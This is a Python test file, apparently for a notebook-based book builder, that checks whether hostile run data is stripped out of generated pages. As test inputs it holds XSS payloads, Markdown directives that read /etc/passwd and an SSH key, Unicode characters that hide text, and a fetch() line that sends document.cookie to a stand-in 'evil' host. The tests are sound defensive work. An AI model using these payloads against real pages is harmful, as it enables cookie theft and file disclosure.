"""Round 4 of the abuse tests, the book's side: what a run directory can do to the book build and to its pages.

A run directory travels between hosts, so its result strings, its notebooks and its ``book`` folder are
data: none of them may open markup in a page, execute anything, or reach a file outside the run."""
import json

import nbformat
import pandas as pd
import pytest
from markdown_it import MarkdownIt

from datajourney.core import phrasing, results
from datajourney.core.facts import Advice, Fact, Facts
from datajourney.core.findings import Action, Opening

HOSTILE = "H200\n\n<script>alert(1)</script>\n\n```{raw} html\n<b>x</b>\n```\n"
HIDDEN = "\u202egnp.exe\u200b\u2066\ufeff\u200d\u2060"


def _markup(md: str) -> list[str]:
    """What a Markdown text would pass to a page as markup: HTML blocks, inline tags, directive fences."""
    found = []
    for t in MarkdownIt("commonmark").parse(md):
        if t.type == "html_block" or (t.type == "fence" and t.info.strip().startswith("{")):
            found.append(t.content)
        found += [c.content for c in t.children or [] if c.type == "html_inline"]
    return found


# --------------------------------------------------------------------------- result strings in Markdown
def test_a_gpu_name_with_newlines_is_one_line_of_text():
    from datajourney.book import opening

    res = results.Result(chapter="06_pcie", run_id="r", parameters={},
                         fingerprint={"gpu": {"available": True, "count": 1, "name": HOSTILE}})
    md = f"**{opening.heading(res, False)}**\n\nnext paragraph"
    assert _markup(md) == [] and "\n" not in opening.heading(res, False)


def test_an_advice_snippet_cannot_end_its_code_fence():
    from datajourney.book import opening

    snippet = "x = 1\n````\n\n<script>alert(1)</script>\n\n```python"

    class Page:
        @staticmethod
        def opening(facts):
            return Opening([], [Action("do this", snippet)])

    res = results.Result(chapter="07_full_picture", run_id="r", parameters={}, fingerprint={})
    res.facts = Facts("07_full_picture", advice=[Advice("k", "num_workers", 1, "w", snippet=snippet)])
    md = opening.markdown(Page, res)
    fences = [t for t in MarkdownIt("commonmark").parse(md) if t.type == "fence"]
    assert _markup(md) == ["<details><summary>The code</summary>\n", "</details>\n"], md
    assert len(fences) == 1 and "<script>" in fences[0].content  # shown as code, whole


def test_chapter_12_words_its_result_strings_as_text():
    from datajourney.chapters.c12_conclusion import page as c12

    x = "\n\n<script>alert(1)</script>\n\n"
    facts = Facts("12_conclusion", data={"tokens.weakest": {"key": "gpu", "chapter": "12_conclusion", "next_key": x},
                                         "image.weakest": {"key": "cpu", "chapter": "07_full_picture"},
                                         "image.fed": {"binding": x},
                                         "image_workload": {"batch_size": x, "model": "m", "device": "cpu"}})
    facts.add(Fact("tokens.margin", 2.0, "×", quantity="rate"), Fact("image.gpus_fed", x, quantity="count"))
    md = "* " + c12._weakest_sentence(facts, "tokens") + "\n* " + c12._action(facts, "image", None).text
    md += "\n* " + c12.workload_name(facts, "image")
    assert _markup(md) == [], md


def test_characters_that_hide_or_reorder_text_are_dropped_everywhere():
    from datajourney.book import report

    for shown in (phrasing.text(HIDDEN), phrasing.code(HIDDEN), report.escape(HIDDEN),
                  report.table_html(pd.DataFrame({HIDDEN: [HIDDEN]}), caption=HIDDEN)):
        assert "gnp.exe" in shown and not any(c in shown for c in "\u202e\u200b\u2066\ufeff\u200d\u2060"), shown


# --------------------------------------------------------------------------- chart scripts
def test_a_chart_script_state_cannot_end_its_script_element():
    from datajourney.core import charts

    template = charts.script_template("var s = %s; draw(s);")
    post = charts.script(template, {"name": "</script><script>alert(1)</script>"})
    assert "</script>" not in post and json.loads(post[len("var s = "):-len("; draw(s);")])["name"].startswith("</")


def test_a_chart_from_elsewhere_runs_only_a_registered_script():
    from datajourney.core import charts

    template = charts.script_template("var t = %s; go(t);")
    fig = {"data": [], "layout": {"meta": {"post_script": "fetch('https://evil/' + document.cookie)"}}}
    assert "evil" not in charts.html(fig, trusted_script=False)
    fig["layout"]["meta"]["post_script"] = 'var t = {"a": "</script>"}; go(t);'
    page = charts.html(fig, trusted_script=False)
    assert "go(t)" in page and "</script>\"" not in page
    with pytest.raises(ValueError):
        charts.script("not registered %s", {})


# --------------------------------------------------------------------------- outputs of a run's notebook
def _display(data: dict) -> dict:
    return nbformat.v4.new_output("display_data", data=data)


@pytest.mark.parametrize("data", [
    {"text/html": "<script>alert(1)</script>"},
    {"text/html": "<div><img src=x onerror=alert(1)></div>"},
    {"text/html": '<div style="background: url(https://evil/x)">t</div>'},
    {"text/markdown": "ok\n\n<script>alert(1)</script>\n"},
    {"text/markdown": "```{raw} html\n<b>x</b>\n```\n"},
    {"text/markdown": ":::{include} /etc/passwd\n:::\n"},
    {"text/markdown": "see {download}`/etc/passwd`"},
    {"text/markdown": "[key](/root/.ssh/id_rsa)"},
    {"text/markdown": "![x](/etc/passwd.png)"},
    {"text/html": "<table><tr><td>1</td></tr></table>", "application/javascript": "alert(1)"},
    {"text/plain": "x", "image/svg+xml": "<svg onload=alert(1)>"},
], ids=["script", "img-onerror", "css-url", "md-script", "md-raw-directive", "md-include", "md-download-role",
        "md-local-link", "md-image", "javascript", "svg"])
def test_a_run_output_with_foreign_markup_is_left_out(data):
    from datajourney.book import foreign

    kept = foreign.output(_display(data))
    assert json.dumps(kept).count("alert") == 0 and "/etc/passwd" not in json.dumps(kept), kept
    assert set(kept["data"]) <= {"text/plain", "text/html", "text/markdown"}


def test_the_outputs_the_package_writes_are_kept():
    """The book's own outputs of a run (tables, folded Markdown, charts) come through as they were."""
    from datajourney.book import foreign, report
    from datajourney.core import charts

    table = report.table_html(pd.DataFrame({"a": [1.5], "b": ["x<y"]}), "caption")
    md = ("**On this machine**\n\n* a [chapter 3](03_dataloader.ipynb) finding <small>(published: 2×)</small>\n\n"
          "<details>\n<summary>How we know</summary>\n\n| a | b |\n|---|---|\n| 1 | `{x}` |\n\n</details>")
    for data in ({"text/html": table, "text/plain": "t"}, {"text/markdown": md, "text/plain": "m"}):
        assert foreign.output(_display(data))["data"] == data
    import plotly.graph_objects as go

    fig = go.Figure(go.Bar(x=["a"], y=[1])).to_plotly_json()
    fig["layout"]["meta"] = {"post_script": charts.script(charts.script_template("var q = %s;"), {"v": 1})}
    kept = foreign.output(_display({"application/vnd.plotly.v1+json": fig, "text/html": "<script>evil()</script>"}))
    assert "Plotly.newPlot" in kept["data"]["text/html"] and 'var q = {"v": 1};' in kept["data"]["text/html"]
    assert "evil" not in kept["data"]["text/html"]
